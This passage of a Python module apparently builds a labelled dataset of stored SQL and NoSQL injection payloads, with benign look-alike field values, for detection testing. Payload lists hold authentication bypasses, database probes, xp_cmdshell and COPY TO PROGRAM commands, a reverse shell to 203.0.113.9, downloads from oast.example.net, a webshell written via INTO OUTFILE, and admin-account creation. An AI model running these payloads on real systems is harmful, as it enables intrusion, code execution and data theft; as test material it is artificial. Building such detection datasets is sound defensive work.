    "root'#",
    # registered username -> password-change (SQL Server, PostgreSQL, Oracle)
    "sa'--",
    "postgres'--",
    "SYSTEM'--",
    # display name copied from an SSO profile -> legacy login query (MySQL)
    "' or 1=1 limit 1 -- -",
    "' or role='admin' limit 1 -- -",
    "' or is_admin=1 -- -",
    "' or username like 'admin%' -- -",
    "' or 1=1 order by id limit 1#",
    # remembered login token in a cookie -> the session restore query (MySQL, SQLite)
    ("1' or '1'='1", *CK),
    ("x' or 1=1 --", *CK),
    ("abc123' or user_id=1 -- -", *CK),
    # username with a union: the login query reads the attacker's own row (MD5 of "password")
    "' union select 1,'admin','5f4dcc3b5aa765d61d8327deb882cf99',1 -- -",
    "nobody' union select 'admin','5f4dcc3b5aa765d61d8327deb882cf99' -- -",
    # username / password pairs for a query that checks both fields (MySQL)
    "admin' and 1=1 -- -",
    "anything' or 'x'='x",
    "') or ('x')=('x",
    "admin') -- -",
    "admin')) or 1=1#",
    # Oracle login query (ROWNUM instead of LIMIT)
    "' or 1=1 and rownum=1 --",
    # reset-token lookup (PostgreSQL)
    "' or reset_token is not null --",
    # API key in a stored webhook secret -> signature check (MySQL)
    "whsec_1234' or 1=1 -- -",
    # invitation code in an import file cell -> invite redemption (SQLite)
    "INV-2024' or 1=1 --",
    # X-Forwarded user name stored by the SSO proxy -> admin login (SQL Server)
    "admin' or 1=1--",
]

# nosql-injection: stored MongoDB documents and strings that a later query runs (operators, $where)
NOSQL: list[Entry] = [
    # saved search filter kept as a JSON blob -> the report runner passes it to find()
    ('{"name":"All owners","filter":{"owner":{"$ne":null}}}', *JB),
    ('{"name":"Admins","filter":{"role":"admin","password":{"$exists":true}},"projection":{"password":1}}', *JB),
    ('{"name":"Slow","filter":{"$where":"sleep(5000) || true"}}', *JB),
    ('{"name":"Probe","filter":{"$where":"this.password && this.password.match(/^\\\\$2b/)"}}', *JB),
    ('{"name":"Any","filter":{"$or":[{},{"x":1}]}}', *JB),
    ('{"name":"Tokens","filter":{"reset_token":{"$ne":null}},"fields":["email","reset_token"]}', *JB),
    ('{"name":"Fn","filter":{"$expr":{"$function":{"body":"function(){sleep(5000);return true}",'
     '"args":[],"lang":"js"}}}}', *JB),
    # saved aggregation pipeline -> the dashboard job runs aggregate() with it
    ('{"pipeline":[{"$lookup":{"from":"users","localField":"owner","foreignField":"_id","as":"u"}}]}', *JB),
    ('{"pipeline":[{"$match":{}},{"$out":"users"}]}', *JB),
    ('{"pipeline":[{"$unionWith":{"coll":"api_keys","pipeline":[{"$project":{"key":1}}]}}]}', *JB),
    # preferences blob -> the profile update uses it as the query document
    ('{"display_name":{"$gt":""},"preferences":{"theme":"dark"}}', *JB),
    ('{"email":{"$regex":".*"},"notify":true}', *JB),
    ('{"username":"admin","password":{"$regex":"^a"}}', *JB),
    # saved filter posted as bracket parameters (qs / PHP arrays) and stored as an object
    ("filter[owner][$ne]=x", *KV),
    ("filter[$where]=sleep(5000)", *KV),
    ("prefs[theme][$gt]=", *KV),
    ("email[$regex]=.*&password[$ne]=", *KV),
    ("token[$ne]=1", *KV),
    ("username[$in][]=admin&username[$in][]=root&password[$ne]=x", *KV),
    ("user[$exists]=true&pass[$ne]=0", *KV),
    # display name concatenated into a $where string by the admin's search
    "'; return this.role == 'admin'; var a='",
    "' || this.password.match(/^a/) || '",
    "'; sleep(5000); var x='",
    "\"; return true; var y=\"",
    "x' || 1==1 || 'x",
    "'; while(true){}; var z='",
    "' || Object.keys(this).length > 0 || '",
    "'; return db.getCollectionNames().length > 0; var b='",
]

# hex/char encoding: stored values that spell their strings without quotes (hex literals, char(), chr())
ENCODING: list[Entry] = [
    # display name -> admin search (MySQL)
    "Ana' or username=0x61646d696e -- -",
    "Ana' and user()=0x726f6f74406c6f63616c686f7374 -- -",
    "Ana' or username=char(97,100,109,105,110) -- -",
    "Ana' or username=unhex('61646d696e') -- -",
    "Ana' or username=_binary 0x61646d696e -- -",
    "Ana' or username=b'0110000101100100011011010110100101101110' -- -",
    "Ana' union select 1,load_file(0x2f6574632f706173737764),3 -- -",
    "Ana' union select 0x3c3f70687020706870696e666f28293b3f3e,2 into outfile '/var/www/html/i.php' -- -",
    "Ana' union select 1,convert(0x61646d696e using utf8),3 -- -",
    # bio -> moderation (SQL Server): the statement built from hex and run by exec()
    "Climber'; declare @s varchar(99); set @s=0x77616974666f722064656c61792027303a303a3527; exec(@s);--",
    "Climber'; declare @s nvarchar(99); set @s=cast(0x73656c65637420404076657273696f6e as varchar(99)); "
    "exec(@s);--",
    "Climber' or name=char(97)+char(100)+char(109)+char(105)+char(110)--",
    "Climber' or name=nchar(0x61)+nchar(0x64)+nchar(0x6d)+nchar(0x69)+nchar(0x6e)--",
    # address -> invoice run (PostgreSQL)
    "Nowy Swiat 6' or username=chr(97)||chr(100)||chr(109)||chr(105)||chr(110) --",
    "Nowy Swiat 6' or username=convert_from(decode('61646d696e','hex'),'utf8') --",
    "Nowy Swiat 6' or username=$$admin$$ --",
    "Nowy Swiat 6' or username=U&'\\0061dmin' --",
    "Nowy Swiat 6' or username=encode('\\x61646d696e'::bytea,'escape') --",
    # settings -> digest mailer (Oracle)
    "it-IT' or username=chr(97)||chr(100)||chr(109)||chr(105)||chr(110) --",
    "it-IT' or username=utl_raw.cast_to_varchar2(hextoraw('61646d696e')) --",
    # saved filter -> analytics file (SQLite)
    "plan=free' or username=char(97,100,109,105,110) --",
    "plan=free' or username=cast(x'61646d696e' as text) --",
    # uploaded file name -> document index (MySQL)
    ("img.png' or 1=0x31 union select 0x61646d696e,2 -- -", *FN),
    # webhook URL -> delivery worker (MySQL)
    "https://hooks.example.net/h' union select 1,unhex(hex(user())),3 -- -",
    # User-Agent in the access log -> log viewer (MySQL)
    ("Mozilla/5.0' or agent=0x61646d696e -- -", *UAH),
    # Referer in the access log -> analytics (SQL Server)
    ("https://example.com/'; exec(char(119)+char(97)+char(105)+char(116)+char(102)+char(111)+char(114)+"
     "char(32)+char(100)+char(101)+char(108)+char(97)+char(121)+char(32)+char(39)+char(48)+char(58)+char(48)+"
     "char(58)+char(53)+char(39));--", *REF),
    # import-file cell -> reconciliation (MySQL)
    "Tyrell Corp' or email like 0x2561646d696e25 -- -",
    # numeric preference stored unquoted (MySQL)
    "10 union select 0x61646d696e,2,3",
]

# stored-procedure/xp_cmdshell: a stored value that runs an operating-system command through the database
PROC: list[Entry] = [
    # display name -> nightly cleanup cron job (SQL Server)
    "Ana'; exec master..xp_cmdshell 'whoami';--",
    "Ana'; exec sp_configure 'show advanced options',1; reconfigure; exec sp_configure 'xp_cmdshell',1; "
    "reconfigure;--",
    "Ana'; exec xp_cmdshell 'powershell -nop -c \"iwr http://oast.example.net/a.ps1 | iex\"';--",
    "Ana'; exec xp_cmdshell 'certutil -urlcache -f http://oast.example.net/nc.exe c:\\windows\\temp\\nc.exe';--",
    "Ana'; exec xp_cmdshell 'net user eve P@ssw0rd1 /add && net localgroup administrators eve /add';--",
    # bio -> moderation batch (SQL Server): OLE automation and the SQL Agent
    "Chef'; declare @o int; exec sp_oacreate 'wscript.shell',@o out; exec sp_oamethod @o,'run',null,"
    "'cmd /c whoami > c:\\inetpub\\wwwroot\\w.txt';--",
    "Chef'; exec msdb.dbo.sp_add_job @job_name='upd'; exec msdb.dbo.sp_add_jobstep @job_name='upd',"
    "@step_name='s',@subsystem='CMDEXEC',@command='whoami'; exec msdb.dbo.sp_start_job 'upd';--",
    "Chef'; exec sp_addsrvrolemember 'eve','sysadmin';--",
    "Chef'; exec master..xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER',"
    "'ObjectName';--",
    "Chef'; exec sp_executesql N'exec master..xp_cmdshell ''ipconfig''';--",
    "Chef'; exec ('xp_cmdshell ''hostname''') at [LINKEDSRV];--",
    "Chef'; exec master..xp_servicecontrol 'start','schedule';--",
    # address -> label job (PostgreSQL): C functions and COPY TO PROGRAM
    "Nevsky 28'; create or replace function sys(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6',"
    "'system' language c strict; select sys('id > /tmp/o');--",
    "Nevsky 28'; copy (select 1) to program 'bash -c \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"';--",
    "Nevsky 28'; do $$begin execute 'copy (select 1) to program ''id > /tmp/x'''; end$$;--",
    "Nevsky 28'; create table cmd(o text); copy cmd from program 'cat /etc/passwd';--",
    # settings -> digest mailer (MySQL UDF from lib_mysqludf_sys)
    "ko-KR'; create function sys_exec returns int soname 'lib_mysqludf_sys.so';#",
    "ko-KR' and sys_exec('curl http://oast.example.net/$(whoami)')=0 -- -",
    "ko-KR' union select sys_eval('id'),2 -- -",
    # webhook URL -> delivery worker (Oracle): Java and the scheduler
    "https://hooks.example.net/o' and (select dbms_java.runjava('oracle/aurora/util/Wrapper /bin/sh -c id') "
    "from dual) is not null --",
    "https://hooks.example.net/o'; begin dbms_scheduler.create_job(job_name=>'j1',job_type=>'EXECUTABLE',"
    "job_action=>'/bin/sh',number_of_arguments=>0,enabled=>true); end;--",
    # notification template -> template lookup (SQL Server)
    "Hi {{name}}'; exec master.dbo.xp_cmdshell 'type c:\\windows\\win.ini';--",
    # uploaded file name -> document index (SQL Server)
    ("scan.tif'; exec xp_cmdshell 'dir c:\\';--", *FN),
    # import-file cell -> reconciliation (SQL Server)
    "Massive Dynamic'; exec sp_password null,'owned','sa';--",
    # User-Agent in the access log -> log rotation job (SQL Server)
    ("Mozilla/5.0'; exec master..xp_cmdshell 'ping -n 3 oast.example.net';--", *UAH),
    # Referer in the access log -> analytics (PostgreSQL)
    ("https://example.org/'; copy (select '') to program 'nslookup ref.oast.example.net';--", *REF),
    # saved filter -> scheduled report (SQL Server)
    "owner:me'; exec sp_makewebtask 'c:\\inetpub\\wwwroot\\o.html','select * from users';--",
    # numeric preference stored unquoted (SQL Server)
    "25; exec xp_cmdshell 'whoami'",
]

# having/group-by/order-by probing: a stored sort or grouping preference pasted into ORDER BY / GROUP BY
ORDER: list[Entry] = [
    # saved report's sort column -> ORDER BY of the scheduled report (MySQL)
    "name,(select case when (1=1) then 1 else 1*(select 1 union select 2) end)",
    "if((select substring(password,1,1) from users where id=1)='$',name,email)",
    "name,extractvalue(1,concat(0x7e,database()))",
    "(select 1 union select 2)",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "rand((select length(user())>5))",
    "name desc,(select sleep(5))",
    "created_at limit 1 into outfile '/var/www/html/o.txt'",
    # sort column -> ORDER BY (PostgreSQL)
    "(case when current_user='postgres' then name else email end)",
    "(select case when substr(current_setting('is_superuser'),1,1)='o' then 1 else 1/(select 0) end)",
    "name,cast(version() as int)",
    # sort column -> ORDER BY (SQL Server)
    "1,(select case when system_user='sa' then 1 else 1/0 end)",
    "name,convert(int,db_name())",
    # sort column -> ORDER BY (SQLite)
    "(case when (select count(*) from sqlite_master)>5 then name else email end)",
    # sort column -> ORDER BY (Oracle)
    "(case when (select user from dual)='SYSTEM' then 1 else to_number('x') end)",
    # display name -> report with quotes (MySQL): count the columns by ORDER BY n
    "Ana' order by 1 -- -",
    "Ana' order by 7 -- -",
    "Ana' order by 100#",
    # display name -> SQL Server report: HAVING and GROUP BY make the error name the columns
    "Ana' having 1=1--",
    "Ana' group by users.id having 1=1--",
    "Ana' group by users.id,users.username having 1=1--",
    # bio -> moderation (MySQL): grouping with an error payload
    "Gamer' group by concat(version(),floor(rand(0)*2)) having min(0) -- -",
    "Gamer' group by 1,2 with rollup having 1=1 -- -",
    # saved grouping setting -> GROUP BY of the dashboard (MySQL)
    "team_id having 1=1 union select 1,@@version",
    "team_id,(select sleep(5))",
    # uploaded file name -> document index (MySQL)
    ("photo.png' order by 5 -- -", *FN),
    # User-Agent in the access log -> log viewer (SQL Server)
    ("Mozilla/5.0' group by agent having 1=1--", *UAH),
    # Referer in the access log -> analytics (MySQL)
    ("https://example.net/' order by 3#", *REF),
]

# like/between/in operators: a stored value that turns a saved search into a wildcard or a range probe
OPERATORS: list[Entry] = [
    # saved search (LIKE '%...%' context) -> scheduled report (MySQL)
    "%' or '1'='1",
    "%' and 1=1 and '%'='",
    "ana%' or username like '%",
    "x%' or password like '$2y$%' -- -",
    # display name -> admin search (MySQL)
    "Ana' or username like '%' -- -",
    "Ana' or password like 'a%' -- -",
    "Ana' or id between 1 and 99999 -- -",
    "Ana' or 1 in (1) -- -",
    "Ana' or role in ('admin','owner') -- -",
    "Ana' and (select count(*) from users where password like '$2%')>0 -- -",
    "Ana' or ascii(substring(user(),1,1)) between 97 and 122 -- -",
    "Ana' or user() like 'root@%' -- -",
    "Ana' or current_user regexp '^r' -- -",
    "Ana' or 'a' not in ('b') -- -",
    # bio -> moderation (PostgreSQL)
    "Nurse' or current_user ilike 'post%' --",
    "Nurse' or current_user similar to 'post%' --",
    "Nurse' or (select passwd from pg_shadow limit 1) like 'md5%' --",
    # address -> label job (SQL Server)
    "Plaza 1' or system_user like 'sa' --",
    "Plaza 1' or db_name() like 'm[a-z]%' --",
    "Plaza 1' or (select top 1 name from sysobjects) in ('users','admins') --",
    # settings -> digest mailer (Oracle)
    "fi-FI' or user like 'SYS%' --",
    "fi-FI' or regexp_like(user,'^S') --",
    # saved filter -> analytics (SQLite)
    "plan=basic' or sqlite_version() glob '3.*' --",
    "plan=basic' or (select sql from sqlite_master) like '%password%' --",
    # uploaded file name -> document index (MySQL)
    ("budget-2024.xlsx' or name like '%.xlsx' -- -", *FN),
    # User-Agent in the access log -> log viewer (MySQL)
    ("Mozilla/5.0' or agent like '%' -- -", *UAH),
    # Referer in the access log -> analytics (PostgreSQL)
    ("https://example.com/' or referer between 'a' and 'z' --", *REF),
    # numeric preference stored unquoted (MySQL)
    "10 or id in (select id from users where role='admin')",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# bracket-operator pairs written as `name=value`, sent unquoted
RAW_KV_SUBS = {"nosql-injection"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["display_name", "bio", "address", "filename", "settings", "webhook_url", "template", "filter",
             "sort", "name"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^\\"
    raw_places = ("form", "rs-param-name")
    one_line = ("cookie", "rs-cookie", "multipart-filename", "rs-multipart-filename")
    upload = "display_name,email,team\r\nAna Lima,ana@example.org,infra\r\n"
    file_type = "text/csv"
    unique = True
    fit_fixed = True
    path_forbids = "/?#"
    raw_body_forbids = "&"
    raw_body_pair = True
    xml_controls = "\n\t"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: real people filling the same fields innocently (Slack messages about editing profiles, settings,
# templates and webhooks, bios, searches, links, saved-search names, profiles with addresses, file names, headers)
CHAT = [
    # editing profiles and settings
    "updated my display name to Siobhán Ní Bhriain, the accent on the a finally saves properly",
    "can someone check why my bio cuts off at the apostrophe in \"don't\"? it looks fine in the preview",
    "changed my time zone to America/Los_Angeles, the digest still comes at 6am Eastern",
    "how do I set my pronouns on the profile? I only see the display name and bio fields",
    "my address has a unit number like 12/34 Smith St and the form keeps asking if it's correct",
    "switched the theme to dark and the charts are unreadable, is there a high-contrast option?",
    "I put my title as 'Sr. Engineer (Platform)' and the parentheses show up fine now",
    "is there a way to hide my phone number from the directory but keep it for on-call?",
    "the locale dropdown says en-GB but dates still show month first",
    "profile photo upload keeps saying the file is too large, it's only 3 MB",
    "changed the sort on the users page to last login, newest first, and it remembers it now",
    "page size is stuck at 25 rows even after I picked 100 in settings",
    "I renamed my saved search from 'Untitled' to 'Infra on-call (EU)' and it disappeared from the list",
    "the saved report 'New hires - last 30 days' runs every Monday at 09:00, who owns it?",
    "can we share saved filters with the whole team? mine is 'status: active AND team: design'",
    "my name is José María and the welcome e-mail said Jos? Mar?a, encoding bug?",
    "display name 'Zoë O’Connor' broke the CSV export, Excel mangled the curly apostrophe",
    "the notification template supports {{first_name}} and {{due_date}}, docs are on the help page",
    "I updated the reminder template to 'Hi {{first_name}}, your timesheet for {{week}} is due Friday'",
    "the e-mail subject template is 'Welcome to {{company_name}}, {{first_name}}!' and it renders fine",
    "added the webhook URL from Slack's incoming webhooks page, test message arrived in #alerts",
    "the Teams webhook stopped working after they moved to workflows, need a new URL",
    "PagerDuty integration key rotated, please update the webhook settings by Thursday",
    "the Discord webhook posts deploy notes to #releases, the URL is in the vault",
    "Zapier catch hook is set up to copy new sign-ups into the sales sheet",
    "imported 340 users from the HR CSV, 3 rows failed because the email column was empty",
    "the import file has names like \"Smith, John\" in quotes, the parser handled it",
    "one row in the import had a name in Japanese, 山田 太郎, and it came through fine",
    "file name 'Q3 Board Pack (final) v2.pdf' uploaded ok, spaces and parentheses are fine",
    "someone uploaded 'résumé – Ana Lima.docx' and the en dash shows correctly",
    "the audit log shows my user agent as Safari on iPhone, that was me on the train",
    "the log viewer lists referrers from google.com and our docs site, nothing weird",
    "the preferences JSON has notify_email true and digest weekly, that's the default",
    "please don't put your home address in the bio, it's public to the whole company",
    "bio updated: 'Product designer. Coffee, cycling, and too many houseplants 🌱'",
    "my bio says 'Ex-teacher, now data analyst; I like SQL and sourdough' and that's all true",
    "changed my last name after the wedding, HR says the directory syncs overnight",
    "name fields accept up to 80 characters now, long Portuguese names fit",
    "the address autocomplete picked 'Flat 2, 10 Union Street' correctly this time",
    "could the directory search handle O'Neill and ONeill as the same person?",
    "my colleague's name is Nguyễn Thị Minh Khai and the tone marks display correctly now",
    "the Arabic display name محمد عبد الله shows right-to-left in the profile, looks good",
    "updated the out-of-office template: 'I'm away until {{return_date}}; for urgent issues contact {{backup}}'",
    "the saved search for 'between jobs' candidates is a recruiting list, please don't delete it",
    "the order confirmation template uses {{order.number}} and {{order.total}}, finance approved it",
    "notification preferences: e-mail for mentions, Slack for everything else",
    "weekly digest is now sent on Monday 8:00 in each user's own time zone",
    "the webhook secret is shown only once, copy it before closing the dialog",
    "the cron job that sends reminders reads the template from settings, restart not needed after editing",
    "display names with emoji like 'Ana 🚀' are allowed, but the admin list strips them in exports",
    "who changed the default sort to 'team, then name'? I like it actually",
    "the bio field supports line breaks now, not markdown though",
    "my address is 'c/o Müller GmbH, Königstraße 5, 70173 Stuttgart', the umlauts were fine",
    "user agent in the access log for the sync tool is 'DirectorySync/3.2 (+https://example.com/bot)'",
    "the report filter 'created between 2024-01-01 and 2024-03-31' works, thanks for the fix",
    "saved search 'name like Ana' returns Ana, Anabel and Juliana, which is what I wanted",
    "the team filter accepts a list, 'team in (infra, data)' style, see the help page",
    "sorting by 'last name, first name' is now the default in the export",
    "the admin group-by view shows counts per department, useful for the headcount report",
    "imported the settings JSON from staging, theme and locale came along too",
    # bios
    "Support lead, EMEA. Ask me about SSO, SCIM and why your display name didn't sync.",
    "Office manager. Addresses, badges, parking. Desk 3.14 (yes, really).",
    "Frontend dev. I write the settings pages and the notification templates.",
    "Recruiter. I own the 'Open roles' saved search and the onboarding e-mail template.",
    "Platform engineer. Webhooks, queues and the occasional 3 a.m. page.",
    "Data analyst: reports, saved filters, group by everything.",
    "HR partner for the Lisbon and São Paulo offices. Falo português e español.",
    "Customer success. Templates, macros and a lot of 'Hi {{first_name}}'.",
    "DBA. MySQL by day, Postgres by night. Please use bound parameters.",
    "Intern, summer 2024. Learning SQL, Python and where the coffee machine is.",
]

SEARCHES = [
    "o'brien", "O'Neill", "D'Angelo", "Zoë", "José María", "山田", "Nguyễn", "محمد", "Siobhán", "Ana 🚀",
    "flat 2", "unit 5", "suite 100", "c/o", "Königstraße", "union street", "Baker St", "rue de la paix",
    "display name", "bio", "webhook", "template", "first_name", "saved search", "report", "between jobs",
    "like", "order", "group", "select", "admin", "settings", "theme", "locale", "time zone", "sort",
    "dark mode", "résumé", "Q3 board pack", "user agent",
]

URLS = [
    "https://hooks.slack.com/services/T0123ABCD/B0456EFGH/abcdefghijklmnopqrstuvwx",
    "https://discord.com/api/webhooks/123456789012345678/AbCdEfGhIjKlMnOpQrStUvWxYz",
    "https://outlook.office.com/webhook/0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b@example.onmicrosoft.com/IncomingWebhook",
    "https://hooks.zapier.com/hooks/catch/1234567/abcde12/",
    "https://events.pagerduty.com/integration/0123456789abcdef0123456789abcdef/enqueue",
    "https://api.github.com/repos/example/directory/dispatches",
    "https://hooks.stripe.com/webhooks/test",
    "https://maker.ifttt.com/trigger/new_user/with/key/abc123",
    "https://www.linkedin.com/in/ana-lima-0a1b2c3d/",
    "https://github.com/siobhan-nibhriain",
    "https://mastodon.social/@zoe_oconnor",
    "https://about.me/jose.maria",
    "https://www.openstreetmap.org/search?query=10%20Union%20Street%20Aberdeen",
    "https://maps.google.com/?q=K%C3%B6nigstra%C3%9Fe+5,+Stuttgart",
    "https://help.example.com/settings/notifications#template-placeholders",
    "https://docs.example.com/admin/saved-searches",
    "https://api.slack.com/messaging/webhooks",
    "https://learn.microsoft.com/en-us/microsoftteams/platform/webhooks-and-connectors/how-to/add-incoming-webhook",
    "https://developer.pagerduty.com/docs/events-api-v2/overview/",
    "https://en.wikipedia.org/wiki/List_of_tz_database_time_zones",
]

PROSE = [
    "Infra on-call (EU)",
    "New hires - last 30 days",
    "status: active AND team: design",
    "Open roles",
    "between jobs",
    "Managers by department",
    "name like Ana",
    "team in (infra, data)",
    "last name, first name",
    "created between 2024-01-01 and 2024-03-31",
    "Hi {{first_name}}, your timesheet for {{week}} is due Friday",
    "Welcome to {{company_name}}, {{first_name}}!",
    "I'm away until {{return_date}}; for urgent issues contact {{backup}}",
    "Your order {{order.number}} for {{order.total}} has shipped",
    "Reminder: {{event_name}} starts at {{start_time}} ({{timezone}})",
    "Flat 2, 10 Union Street, Aberdeen AB11 6BD",
    "Apt. 4B, 350 Fifth Avenue, New York, NY 10118",
    "c/o Müller GmbH, Königstraße 5, 70173 Stuttgart",
    "12/34 Smith St, Fitzroy VIC 3065",
    "Unit #5 - 1200 Bay St, Toronto ON",
    "Sr. Engineer (Platform)",
    "Product designer. Coffee, cycling, and too many houseplants",
    "Ex-teacher, now data analyst; I like SQL and sourdough",
    "Zoë O'Connor",
    "Siobhán Ní Bhriain",
    "José María Pérez-Ortega",
    "D'Angelo & Sons",
    "O'Neill, Patrick",
    "Smith, John \"Jack\"",
    "Ana 🚀",
    "dark theme, compact rows, 100 per page",
    "sort by last login, newest first",
    "group by department",
    "order confirmation template",
    "webhook for #alerts",
    "Q3 Board Pack (final) v2",
    "users where team = infra",
    "admins and owners",
    "digest: weekly, Monday 8:00",
    "select all in team design",
]

PROFILES = [
    ("Siobhán Ní Bhriain", "14 Grafton St, Dublin 2, D02 VF65"),
    ("Zoë O'Connor", "Flat 2, 10 Union Street, Aberdeen AB11 6BD"),
    ("José María Pérez-Ortega", "Calle de Alcalá 45, 3º izq., 28014 Madrid"),
    ("山田 太郎", "東京都千代田区丸の内1-9-1"),
    ("Nguyễn Thị Minh Khai", "12 Lý Thường Kiệt, Hoàn Kiếm, Hà Nội"),
    ("محمد عبد الله", "شارع الملك فهد، الرياض"),
    ("Dr. Amara Okafor, PhD", "Suite 100, 1 Marina Rd, Lagos"),
    ("Patrick O'Neill Jr.", "Apt. 4B, 350 Fifth Avenue, New York, NY 10118"),
    ("Priya D'Souza", "#21, 2nd Cross, Indiranagar, Bengaluru 560038"),
    ("Ana Lima 🚀", "Rua Augusta 12, 2º Dto, 1100-053 Lisboa"),
    ("Łukasz Wiśniewski", "ul. Nowy Świat 6/12, 00-400 Warszawa"),
    ("Jürgen Müller", "c/o Müller GmbH, Königstraße 5, 70173 Stuttgart"),
    ("Søren Kierkegaard-Holm", "Nørrebrogade 20, 2. tv, 2200 København N"),
    ("Chloé Dubois", "Bât. B, 8 rue de la Paix, 75002 Paris"),
    ("Mary-Kate \"MK\" Olsen", "Unit #5 - 1200 Bay St, Toronto ON M5R 2A5"),
    ("Ørjan Håland", "Postboks 123 Sentrum, 0102 Oslo"),
    ("Андрей Смирнов", "Невский пр., д. 28, кв. 7, Санкт-Петербург"),
    ("Kim Min-jun (김민준)", "서울특별시 강남구 테헤란로 152"),
    ("Sr. Eng. Ravi Shankar", "12/34 Smith St, Fitzroy VIC 3065"),
    ("Fatima Zahra El Idrissi", "Résidence Al Amal, Imm. 3, Apt 12, Casablanca"),
    ("Seán Ó Súilleabháin", "The Old Rectory, Main St, Kenmare, Co. Kerry"),
    ("Ana & João Silva", "Av. Paulista, 1578 - Bela Vista, São Paulo - SP"),
    ("Li Wei (李伟)", "上海市浦东新区世纪大道100号"),
    ("Anne-Marie L'Écuyer", "1200, rue Sainte-Catherine O., bureau 300, Montréal"),
    ("Tomás Ó Briain", "PO Box 45, Galway"),
]

UPLOAD_NAMES = [
    "Q3 Board Pack (final) v2.pdf", "résumé – Ana Lima.docx", "users-import-2024-06.csv", "HR export (June).xlsx",
    "O'Connor_offer_letter.pdf", "Siobhán Ní Bhriain - contract.pdf", "山田太郎_履歴書.pdf", "team photo #2.jpg",
    "IMG_20240612_101502.jpg", "Screenshot 2024-06-12 at 10.15.02.png", "invoice_#4711.pdf",
    "minutes 2024-05-14 & actions.docx", "budget_2024-2025 (draft).xlsx", "notification-templates.json",
    "saved-searches-export.json", "address-labels.csv", "directory_backup_2024-06-01.csv",
    "welcome-email-template.html", "onboarding checklist v3.1.pdf", "Kündigung_Müller.pdf", "scan 0042.tif",
    "user-preferences.json", "webhooks-config.yaml", "logo@2x.png", "Relatório Trimestral T2.pdf",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "DirectorySync/3.2 (+https://example.com/bot)"),
    ("User-Agent", "Slack-ImgProxy (+https://api.slack.com/robots)"),
    ("User-Agent", "Zapier"),
    ("User-Agent", "PagerDuty-Webhook/V3.0"),
    ("User-Agent", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17726; Pro)"),
    ("Referer", "https://app.example.com/settings/profile"),
    ("Referer", "https://app.example.com/settings/notifications?tab=templates"),
    ("Referer", "https://app.example.com/admin/users?sort=last_login&order=desc&page_size=100"),
    ("Referer", "https://app.example.com/reports/saved/42?name=New%20hires%20-%20last%2030%20days"),
    ("Referer", "https://www.google.com/search?q=o%27brien+directory"),
    ("Referer", "https://app.slack.com/client/T0123ABCD/C0456EFGH"),
    ("Accept-Language", "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7"),
    ("Accept-Language", "ja-JP,ja;q=0.9,en;q=0.5"),
    ("Cookie", "session=abc123; theme=dark; locale=en-GB; tz=Europe%2FLondon"),
    ("Cookie", "session=abc123; sort=last_name%2Cfirst_name; page_size=100"),
    ("Cookie", "session=abc123; last_search=o%27neill"),
    ("X-Request-Id", "9b2e4c1a-7f3d-4a8e-b6c5-2d1f0e9a8b7c"),
    ("X-Forwarded-For", "203.0.113.77"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
